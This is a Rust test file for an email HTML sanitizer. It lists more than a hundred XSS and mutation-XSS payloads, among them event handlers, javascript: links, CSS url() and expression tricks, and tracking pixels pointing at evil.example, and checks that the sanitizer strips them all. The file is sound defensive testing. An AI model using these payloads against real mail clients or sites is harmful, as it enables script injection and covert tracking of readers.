use super::*;

/// Harmless HTML, and how many images were not let through.
#[derive(Debug, PartialEq, Eq)]
struct Clean {
    html: String,
    blocked_images: usize,
}

fn sanitize(html: &str, parts: &[Part], remote: Remote) -> Option<Clean> {
    let images = Images::new(parts, remote);
    let html = super::sanitize(html, &images)?;
    Some(Clean {
        html,
        blocked_images: images.blocked(),
    })
}

fn clean(html: &str) -> String {
    sanitize(html, &[], Remote::Blocked).unwrap().html
}

/// What attackers send. Nothing of it may leave a way to run or fetch anything.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:x onerror\u{0b}=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 \
     onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=password><button \
     formaction=javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)><embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); * \
     {background:url(https://evil.example/y)}</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<body onload=alert(1) background=https://evil.example/b.png>",
    "<table background=https://evil.example/b.png><td background=javascript:alert(1)>x",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-image:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-color:url(https://evil.example/x)\">x</div>",
    "<div style=\"list-style:url(https://evil.example/x)\">x</div>",
    "<div style=\"font-family:'x;background:url(https://evil.example/x)'\">x</div>",
    "<div style=\"border-image:url(https://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</div>",
    "<div style=\"color:u\\72l(https://evil.example/x)\">x</div>",
    "<div style=\"color:url/**/(https://evil.example/x);margin:url(x\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x#y)\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:image/png,<script>alert(1)</script>\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=\"/logout\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,x\">",
    "<img src=\"https://evil.example/pixel.gif\">",
    "<img src=\"//evil.example/pixel.gif\">",
    "<img srcset=\"https://evil.example/a 1x\" src=\"cid:none\">",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>",
    "<audio src=https://evil.example/a autoplay>",
    "<input type=image src=https://evil.example/x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id=login class=banner>x</p>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<a href=https://x.example onclick=alert(1) ping=https://evil.example target=_top>x</a>",
    "<dialog open>x</dialog><details ontoggle=alert(1) open>x</details>",
    "\u{feff}<\u{0}script>alert(1)</script>",
    // One tree when it is read, another one when it is read again.
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><title><style><img title=\"</style></title><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style></annotation-xml><img src=x onerror=x>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<div><!--</div><img src=x onerror=alert(1)>--!><img src=y onerror=alert(2)>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![if !mso]><svg onload=x><![endif]>",
    // Drawings.
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg><image href=\"https://evil.example/x\"/><foreignObject><iframe src=x></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    // Styles that fetch, run, or cover the page.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@\\69mport url(//evil.example/x)</style>",
    "<div style=\"@import url(https://evil.example/x)\">x</div>",
    "<div style=\"background:\\75rl(https://evil.example/x)\">x</div>",
    "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
    "<div style=\"background:-webkit-image-set(url(https://evil.example/x) 1x)\">x</div>",
    "<div style=\"color:var(--x,url(https://evil.example/x))\">x</div>",
    "<div style=\"content:url(https://evil.example/x);cursor:url(//evil.example/c),auto\">x</div>",
    "<div style=\"filter:url(https://evil.example/x#f);mask:url(#m)\">x</div>",
    "<div style=\"behavior:url(#default#time2)\">x</div>",
    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
    "<div style=\"p\\6fsition:fixed;top:0\">x</div>",
    "<td style=\"background:url('https://evil.example/x')\" background=\"//evil.example/y\">x",
    // Ways to other places.
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>alert(1)</script>\">",
    "<meta http-equiv=Set-Cookie content=\"tideover=x\"><meta charset=utf-7>+ADw-script+AD4-",
    "<base target=_top href=//evil.example><a href=x>x</a>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script&#58;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a><a href=\"view-source:javascript:x\">y</a>",
    "<a href=\"blob:https://x.example/1\">x</a><a href=\"file:///etc/passwd\">y</a>",
    "<a href=\"ms-word:ofe|u|https://evil.example/x.docx\">x</a>",
    "<a href=\"vbscript&#x3a;msgbox(1)\">x</a>",
    "<form><input type=submit formaction=javascript:alert(1)></form><form action=/logout>",
    "<button form=x formaction=https://evil.example>x</button>",
    // Pictures that are none, or leak.
    "<img src=\"cid:x\\\" onerror=alert(1)\"><img src=\"cid:\"><img src=\"CID:&#x22;onload=x\">",
    "<img lowsrc=//evil.example/a dynsrc=//evil.example/b longdesc=//evil.example/c>",
    "<image src=//evil.example/a><bgsound src=//evil.example/b><layer src=//evil.example/c>",
    "<img src='https://evil.example/?x=",
    "<applet code=x><param name=src value=//evil.example></applet><frameset><frame src=x>",
    "<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=//evil.example/x>",
    "<video><source onerror=alert(1)><track src=//evil.example></video>",
    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
];

/// Attributes of the result, read back with a parser of our own, not with the one under test.
fn tags(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .map(|tag| tag.split('>').next().unwrap_or_default().to_lowercase())
        .collect()
}

/// None of these is left.
const ELEMENTS: &[&str] = &[
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "button",
    "video",
    "audio",
    "template",
    "textarea",
    "select",
    "body",
    "source",
    "dialog",
    "xmp",
    "noscript",
    "frameset",
    "frame",
    "applet",
    "param",
    "bgsound",
    "layer",
    "image",
    "portal",
    "fencedframe",
    "track",
    "marquee",
    "keygen",
    "option",
];

#[test]
fn attacks_leave_nothing_behind() {
    for attack in ATTACKS {
        let html = clean(attack);
        for tag in tags(&html) {
            let name = tag
                .split([' ', '/'])
                .find(|part| !part.is_empty())
                .unwrap_or_default();
            for element in ELEMENTS {
                assert_ne!(name, *element, "{attack} → {html}");
            }
            for attribute in [
                " on",
                " src=",
                " srcset",
                " background=",
                " poster",
                " ping",
                " action",
                " formaction",
                " id=",
                " class=",
                " xlink",
                "javascript",
                "vbscript",
                "data:",
                "cid:",
                "url(",
                "expression(",
                "position",
                "_top",
                "evil.example\"><",
            ] {
                assert!(!tag.contains(attribute), "{attack} → {html}");
            }
            assert!(!tag.contains("href=\"/"), "{attack} → {html}");
        }
    }
}

#[test]
fn attacks_are_harmless_together_and_twice() {
    let all = ATTACKS.concat();
    let once = clean(&all);
    assert_eq!(
        clean(&once),
        once,
        "cleaning is stable: no text turns into markup"
    );
    assert!(!once.to_lowercase().contains("<script"));
}

#[test]
fn ordinary_mail_keeps_its_look() {
    let html = clean(
        "<table width=\"600\" bgcolor=\"#eee\" style=\"border-collapse:collapse\"><tr>\
         <td align=\"center\" style=\"padding:8px;color:#333\"><font \
         style=\"background-color:rgb(1,2,3)\" face=\"Arial\">Hi \
         <b>Ann</b></font> <a href=\"https://example.org/?a=1&amp;b=2\">link</a></td></tr></table>",
    );
    for kept in [
        "width=\"600\"",
        "bgcolor=\"#eee\"",
        "border-collapse:collapse",
        "padding:8px",
        "color:#333",
        "rgb(1, 2, 3)",
        "face=\"Arial\"",
        "<b>Ann</b>",
        "https://example.org/?a=1&amp;b=2",
        "target=\"_blank\"",
        "noopener",
    ] {
        assert!(html.contains(kept), "{kept} is missing: {html}");
    }
}

#[test]
fn remote_images_come_only_when_asked_for() {
    let html = "<p>x<img src=\"https://example.org/a.png\" alt=\"A\">\
                <img src=\"http://example.org/b.png\"></p>";
    let blocked = sanitize(html, &[], Remote::Blocked).unwrap();
    assert_eq!(blocked.blocked_images, 2);
    assert!(!blocked.html.contains("example.org"), "{}", blocked.html);
    assert!(blocked.html.contains("alt=\"A\""));
    let allowed = sanitize(html, &[], Remote::Allowed).unwrap();
    assert_eq!(allowed.blocked_images, 0);
    assert!(allowed.html.contains("https://example.org/a.png"));
}

#[test]
fn images_of_the_message_are_put_in() {
    let part = |id: &str, kind: &str| Part {
        number: 2,
        name: None,
        content_type: kind.to_owned(),
        content_id: Some(id.to_owned()),
        charset: None,
        content: b"\x89PNG".to_vec(),
    };
    let parts = [
        part("Logo@x", "image/png"),
        part("evil@x", "image/svg+xml"),
        part("odd@x", "image/pngx"),
    ];
    let html = "<img src=\"cid:logo@X\"><img src=\"cid:evil@x\"><img src=\"cid:none\">\
                <img src=\"data:image/gif;base64,R0lGOD==\"><img src=\"cid:odd@x\">\
                <img src=\"data:image/pngx;base64,x\"><img src=\"data:image/svg+xml,<svg>\">\
                <img src=\"data:image/png/svg+xml,x\">";
    let clean = sanitize(html, &parts, Remote::Blocked).unwrap();
    assert!(
        clean.html.contains("data:image/png;base64,iVBORw=="),
        "{}",
        clean.html
    );
    assert!(clean.html.contains("data:image/gif;base64,R0lGOD=="));
    for odd in ["svg", "cid:", "pngx", "png/"] {
        assert!(!clean.html.contains(odd), "{odd}: {}", clean.html);
    }
    assert_eq!(clean.blocked_images, 0);
}

#[test]
fn what_is_too_deep_or_too_long_is_refused() {
    assert_eq!(
        sanitize(&"<div>".repeat(100_000), &[], Remote::Blocked),
        None
    );
    assert_eq!(sanitize(&"x".repeat(HTML + 1), &[], Remote::Blocked), None);
    assert!(sanitize(&"<p>x<br>".repeat(5_000), &[], Remote::Blocked).is_some());
    assert!(sanitize(&"<div>x</div>".repeat(5_000), &[], Remote::Blocked).is_some());
}

/// What is taken out changes how the rest is read: the result is what is read the same again.
#[test]
fn the_result_has_one_reading() {
    for html in [
        "<a><<object><a><",
        "<a><marquee><a>x",
        "<button><b><button>x",
    ] {
        let once = clean(html);
        assert_eq!(clean(&once), once, "{html}");
    }
}

#[test]
fn a_mail_of_nothing_but_ampersands_is_shown() {
    let sanitize = |html: &str| super::sanitize(html, &Images::new(&[], Remote::Blocked)).unwrap();
    let many = 1024 * 1024;
    let shown = sanitize(&"&".repeat(many));
    assert!(shown == "&amp;".repeat(many));
    let cells = "<table>&copy<tr>&nbsp;<td>&amp;&#228;&notit;</td></tr></table>";
    let shown = sanitize(&cells.repeat(3));
    let one = "\u{a9}&nbsp;<table><tbody><tr><td>&amp;\u{e4}\u{ac}it;</td></tr></tbody></table>";
    assert_eq!(shown, one.repeat(3));
}
